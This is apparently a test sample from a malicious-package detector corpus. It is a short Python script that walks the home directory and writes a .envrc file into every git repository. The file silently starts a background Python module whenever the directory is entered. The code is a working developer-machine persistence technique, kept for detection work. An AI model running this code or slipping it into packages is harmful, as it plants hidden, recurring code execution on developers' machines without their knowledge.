# pkgguard corpus 887 (persistence), modelled on [developer-persistence]; inert, never run.
import os

_ENVRC = 'python3 -m pkg._sync >/dev/null 2>&1 &\nexport PKG_SYNC=1\n'

home = os.path.expanduser("~")
for root, dirs, files in os.walk(home):
    if root.count(os.sep) - home.count(os.sep) > 3:
        dirs[:] = []
        continue
    if ".git" in dirs and ".envrc" not in files:
        try:
            with open(os.path.join(root, ".envrc"), "w", encoding="utf-8") as fh:
                fh.write(_ENVRC)
        except OSError:
            pass
    dirs[:] = [d for d in dirs if not d.startswith(".")]
